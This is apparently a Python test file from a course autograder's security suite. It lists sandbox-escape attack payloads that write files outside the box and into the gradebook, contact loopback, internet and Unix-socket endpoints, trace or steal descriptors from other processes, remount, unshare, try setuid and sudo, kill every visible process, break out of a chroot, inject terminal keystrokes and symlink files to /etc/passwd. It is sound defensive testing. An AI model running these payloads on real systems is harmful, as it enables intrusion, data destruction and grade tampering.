"""Attacks that leave the sandbox: files, network, other processes, privileges."""

from __future__ import annotations

from tests.security.attacks import ENDED, GUARD, PORT, SOCKET, Attack

BLOCKED = "It fails, and nothing outside is changed."


def _escape(name: str, tries: str, source: str, must: str = BLOCKED, **more: object) -> Attack:
    return Attack(name, tries, must, source, states=more.pop("states", ENDED), **more)


LIBC = GUARD + "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"

ATTACKS = [
    _escape(
        "escaping-write",
        "Files are written to places all over the disk.",
        """\
import os, site, sys
places = ["/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/etc", "/usr/local/bin", "/root", "/home",
          os.path.expanduser("~"), sys.prefix, *site.getsitepackages()]
for place in places:
    try:
        open(os.path.join(place, "fxcourse-pwned-write"), "w").write("x")
    except OSError:
        pass
""",
    ),
    _escape(
        "escaping-classroom",
        "Files are written into the classroom and beside it.",
        """\
import os
for up in ("..", "../..", "../../..", "../../../.."):
    for place in (".", "source", "release", "autograded", "feedback", "submitted", "beside"):
        try:
            open(os.path.join(up, place, "fxcourse-pwned-classroom"), "w").write("x")
        except OSError:
            pass
    for name in ("nbgrader_config.py", "gradebook.db"):
        if os.path.exists(os.path.join(up, name)):
            open(os.path.join(up, name), "a").write("# fxcourse-pwned")
            print("LOOT", up, name)
""",
    ),
    _escape(
        "escaping-loopback",
        "Something is sent to a server on this machine, by TCP and UDP.",
        f"""\
import socket
for host in ("127.0.0.1", "::1", "localhost", "0.0.0.0"):
    try:
        with socket.create_connection((host, {PORT}), timeout=2) as s:
            s.sendall(b"pwned")
            print("LOOT", host)
    except OSError:
        pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    try:
        s.sendto(b"pwned", ("127.0.0.1", {PORT}))
    except OSError:
        pass
""",
    ),
    _escape(
        "escaping-internet",
        "Something is sent to an address on the internet, by TCP, UDP, DNS.",
        """\
import socket
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"pwned", ("192.0.2.1", 9))
        print("LOOT: a datagram was sent")
except OSError:
    pass
for call in (lambda: socket.create_connection(("192.0.2.1", 80), timeout=2),
             lambda: socket.getaddrinfo("example.org", 80)):
    try:
        call()
        print("LOOT: there is a network")
    except OSError:
        pass
""",
    ),
    _escape(
        "escaping-unix-sockets",
        "Unix sockets are called: by path, abstract ones, and common ones.",
        f"""\
import glob, socket
paths = [{SOCKET!r}, "\\0fxcourse-attacks", *glob.glob("/run/*.sock"), *glob.glob("/run/*/*sock*"),
         *glob.glob("/tmp/*.sock"), *glob.glob("/tmp/.X11-unix/*"), *glob.glob("/tmp/ssh-*/*")]
for path in paths:
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(path)
            s.sendall(b"pwned")
            print("LOOT", path)
    except OSError:
        pass
""",
    ),
    _escape(
        "escaping-ptrace",
        "The parent process is traced, and its memory opened for writing.",
        LIBC
        + """\
for pid in {os.getppid(), 1} - {0, os.getpid()}:
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("LOOT: attached to", pid)
        libc.ptrace(17, pid, 0, 0)
    try:
        open(f"/proc/{pid}/mem", "r+b", 0).close()
        print("LOOT: memory of", pid)
    except OSError:
        pass
""",
        doubt="A helper inside of the box that is the same user can be traced; what it says must "
        "then be worth no more than what the student's process can say.",
    ),
    _escape(
        "escaping-pidfd",
        "Files are taken out of other processes with `pidfd_getfd`.",
        LIBC
        + """\
for pid in {os.getppid(), 1} - {0, os.getpid()}:
    pidfd = libc.syscall(434, pid, 0)
    for number in range(64):
        fd = libc.syscall(438, pidfd, number, 0)
        if fd >= 0:
            where = os.readlink(f"/proc/self/fd/{fd}")
            if any(word in where for word in ("gradebook", "journal", ".db", "submitted", "log")):
                print("LOOT", pid, where)
""",
    ),
    _escape(
        "escaping-mount",
        "The disk is mounted again so that it can be written.",
        LIBC
        + """\
print([libc.mount(b"none", b"/", None, 0x20 | 0x1000, None), libc.umount2(b"/proc", 2)])
for place in (b"/", b"/usr", b"/tmp"):
    libc.mount(b"none", place, None, 0x20, None)
for path in ("/fxcourse-pwned-mount", "/usr/fxcourse-pwned-mount"):
    try:
        open(path, "w").write("x")
        print("LOOT", path)
    except OSError:
        pass
""",
    ),
    _escape(
        "escaping-unshare",
        "A new user namespace gives privileges, and with them mounts.",
        LIBC
        + """\
if libc.unshare(0x10000000 | 0x00020000) == 0:
    libc.mount(b"none", b"/", None, 0x44000, None)
    if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=8g") == 0:
        print("LOOT: a file system of its own, without the box's limits")
        for n in range(20):
            open(f"/tmp/{n}", "wb").write(bytes(10_000_000))
""",
        doubt="Unless `user.max_user_namespaces` is 0 in the box or `unshare` is filtered, one can "
        "make namespaces in it, and a tmpfs whose pages no watch of resident memory sees.",
    ),
    _escape(
        "escaping-setuid",
        "It becomes root, by setuid and by programs that are setuid.",
        GUARD
        + """\
import glob, subprocess
for call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0])):
    try:
        call()
        open("/fxcourse-pwned-setuid", "w").write("x")
        print("LOOT")
    except OSError:
        pass
for tool in ("sudo", "su", "doas", "pkexec"):
    try:
        run = subprocess.run([tool, "touch", "/tmp/fxcourse-pwned-setuid"], timeout=5,
                             stdin=subprocess.DEVNULL)
    except (OSError, subprocess.SubprocessError):
        pass
""",
    ),
    _escape(
        "escaping-signals",
        "Every process that can be seen is killed, with parents and groups.",
        GUARD
        + """\
import signal
print("killing")
for pid in (os.getppid(), 1, -1, 0):
    for sign in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, sign)
        except OSError:
            pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except OSError:
    pass
""",
        "Only what is in its own box ends.",
    ),
    _escape(
        "escaping-chroot",
        "It leaves its root by a folder that was open before `chroot`.",
        LIBC
        + """\
try:
    os.makedirs("inner", exist_ok=True)
    here = os.open("/", os.O_RDONLY)
    os.chroot("inner")
    os.fchdir(here)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    if os.path.exists("/etc/shadow") or os.path.exists("/home") and os.listdir("/home"):
        print("LOOT", os.listdir("/"))
    open("/fxcourse-pwned-chroot", "w").write("x")
except OSError as error:
    print(error)
""",
    ),
    _escape(
        "escaping-terminal",
        "Keys are typed into the instructor's terminal.",
        GUARD
        + """\
import fcntl, termios
for path in ("/dev/tty", "/dev/pts/0", "/dev/pts/1", "/proc/self/fd/0", "/proc/self/fd/2"):
    try:
        fd = os.open(path, os.O_RDWR)
        for key in b"# LOOT\\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([key]))
        print("LOOT", path)
    except OSError:
        pass
""",
    ),
    _escape(
        "escaping-shared-memory",
        "Messages are left for later students in shared memory.",
        GUARD
        + """\
from multiprocessing import shared_memory
import ctypes, glob
libc = ctypes.CDLL(None)
try:
    shared_memory.SharedMemory("fxcourse-pwned-shared", create=True, size=4096)
except OSError:
    pass
key = libc.shmget(0x46580001, 4096, 0o1666)
if key >= 0:
    print("new:", key)
key = libc.shmget(0x46580001, 4096, 0o666 | 0o1000)
for path in glob.glob("/dev/shm/*"):
    if "left-by" in path:
        print("LOOT", path)
open("/dev/shm/fxcourse-pwned-left-by", "w").write("x") if os.path.isdir("/dev/shm") else None
""",
    ),
    _escape(
        "escaping-kernel-settings",
        "Kernel settings are written: core patterns, groups, limits.",
        GUARD
        + """\
import glob
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory",
             "/proc/self/oom_score_adj", "/proc/sysrq-trigger",
             *glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:20]):
    try:
        fd = os.open(path, os.O_WRONLY)
    except OSError:
        continue
    if "oom" not in path:
        print("LOOT", path)
""",
    ),
    _escape(
        "escaping-limits",
        "Limits are raised, and the scheduler asked for preference.",
        GUARD
        + """\
import resource
for name in ("RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_CPU", "RLIMIT_FSIZE"):
    kind = getattr(resource, name)
    soft, hard = resource.getrlimit(kind)
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        if hard != resource.RLIM_INFINITY:
            print("LOOT", name)
    except (OSError, ValueError):
        pass
try:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))
    print("LOOT: it has preference over everybody")
except OSError:
    pass
""",
    ),
    _escape(
        "escaping-links",
        "Its folder and files are replaced by links out of it while it runs.",
        """\
import os, shutil
here = os.getcwd()
for name in os.listdir(here):
    try:
        shutil.rmtree(name) if os.path.isdir(name) else os.remove(name)
        os.symlink("/etc/passwd", name)
    except OSError:
        pass
for name in ("03_manipulation.ipynb", "state.json", "000.outcome", "results.json", "output.png"):
    try:
        os.symlink("/tmp/fxcourse-pwned-links", name)
    except OSError:
        pass
try:
    os.rename(here, here + "-moved")
    os.symlink("/etc", here)
except OSError:
    pass
""",
    ),
]
